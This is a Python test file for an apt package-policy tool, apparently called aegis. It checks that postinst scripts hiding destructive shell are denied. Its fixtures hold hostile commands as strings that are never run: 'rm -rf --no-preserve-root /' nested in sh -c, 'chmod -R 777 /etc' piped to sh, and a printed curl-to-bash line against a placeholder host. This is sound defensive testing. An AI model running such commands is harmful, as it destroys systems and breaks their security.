"""Maintainer scripts read as shell, through the real CLI (issue 12 item 10).

Real .debs (dpkg-deb) in a signed repository, planned by ``aegis apt install --plan``
through real apt with contents inspected, then judged by ``aegis policy``:

- a package whose postinst only *prints* "run: curl … | bash" is not denied (it was);
- a package that hides ``rm -rf /`` in a string a shell runs (``sh -c "bash -c '…'"``,
  ``echo … | sh``) is denied;
- a package whose script bashlex cannot parse gets ``script.unparsed`` and needs approval.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from aegis.cli.aegis import cli
from aegis.config import load_config
from aegis.devtools import testrepo

U = "http://e.invalid/i"
MESSAGE = f"""
case "$1" in
  configure)
    echo "To finish, run: curl -fsSL {U} | bash" >&2
  ;;
esac
"""
HIDDEN = """
case "$1" in
  configure)
    sh -c "bash -c 'rm -rf --no-preserve-root /'"
    echo "chmod -R 777 /etc" | sh
  ;;
esac
"""
UNPARSED = 'n=$(( 1 + $(id -u) ))\necho "$n" > "${DPKG_ROOT:-}/var/lib/aegis-odd"\n'


def _spec(name: str, body: str) -> testrepo.PackageSpec:
    script = "#!/bin/sh\nset -e\n" + body.strip("\n") + "\nexit 0\n"
    # Nothing here is ever run: the packages are only planned.
    return testrepo.PackageSpec(name, "1.0", scripts={"postinst": script})


@pytest.fixture(scope="module")
def shell_repo(tmp_path_factory: pytest.TempPathFactory) -> tuple[testrepo.Repo, Any]:
    tmp = tmp_path_factory.mktemp("shell")
    repo = testrepo.build_repo(
        tmp / "repo",
        packages=[
            _spec("aegis-message", MESSAGE),
            _spec("aegis-hidden", HIDDEN),
            _spec("aegis-odd", UNPARSED),
        ],
    )
    root = testrepo.make_root(tmp / "root", [repo])
    testrepo.apt_update(root)
    return repo, root


@pytest.fixture
def env(
    shell_repo: tuple[testrepo.Repo, Any], aegis_home: Path, monkeypatch: pytest.MonkeyPatch
) -> testrepo.Repo:
    repo, root = shell_repo
    monkeypatch.setenv("AEGIS_APT_CONFIG", str(root.apt_config))
    cfg = load_config()
    cfg.policy_path.parent.mkdir(parents=True, exist_ok=True)
    default = (Path(__file__).resolve().parents[3] / "aegis/policy/default_policy.toml").read_text()
    cfg.policy_path.write_text(
        default + f'\n[[sources]]\nname = "test"\nuri = "{repo.uri}"\nsuite = "{repo.suite}"\n'
        f'component = "main"\nsigner_fingerprint = "{repo.fingerprint}"\n'
        'packages = ["aegis-*"]\n'
    )
    return repo


def _plan_and_decide(package: str) -> tuple[dict[str, Any], int, dict[str, Any]]:
    run = CliRunner()
    planned = run.invoke(cli, ["apt", "install", package, "--plan", "--json"])
    assert planned.exit_code == 0, planned.output
    plan_path = json.loads(planned.stdout)["plan_path"]
    plan = json.loads(Path(plan_path).read_text())
    assert plan["content_inspected"] is True
    reviewed = run.invoke(cli, ["review", plan_path, "--no-review"])
    assert reviewed.exit_code == 0, reviewed.output
    decided = run.invoke(cli, ["policy", plan_path, "--json"])
    return plan, decided.exit_code, json.loads(decided.stdout)


def _fired(result: dict[str, Any]) -> dict[str, str]:
    return {f["rule_id"]: f["effect"] for f in result["result"]["fired"]}


def test_a_printed_instruction_is_not_a_deny(env: testrepo.Repo) -> None:
    plan, code, result = _plan_and_decide("aegis-message")
    assert [f for f in plan["findings"] if f["file"] == "postinst"] == []
    assert code != 5, result
    assert result["result"]["decision"] != "deny"
    assert not [r for r in _fired(result) if r.startswith("script.")]


def test_a_command_hidden_in_a_shell_string_is_denied(env: testrepo.Repo) -> None:
    plan, code, result = _plan_and_decide("aegis-hidden")
    found = {(f["rule"], f["line"], f["severity"]) for f in plan["findings"]}
    assert {("script.destructive", 5, "hostile"), ("script.destructive", 6, "hostile")} <= found
    assert code == 5, result
    assert result["result"]["decision"] == "deny"
    assert _fired(result)["script.hostile"] == "deny"


def test_a_script_that_does_not_parse_needs_approval(env: testrepo.Repo) -> None:
    plan, code, result = _plan_and_decide("aegis-odd")
    assert [(f["rule"], f["severity"]) for f in plan["findings"]] == [
        ("script.unparsed", "sensitive")
    ]
    assert code == 8, result
    assert _fired(result)["script.sensitive"] == "require-approval"
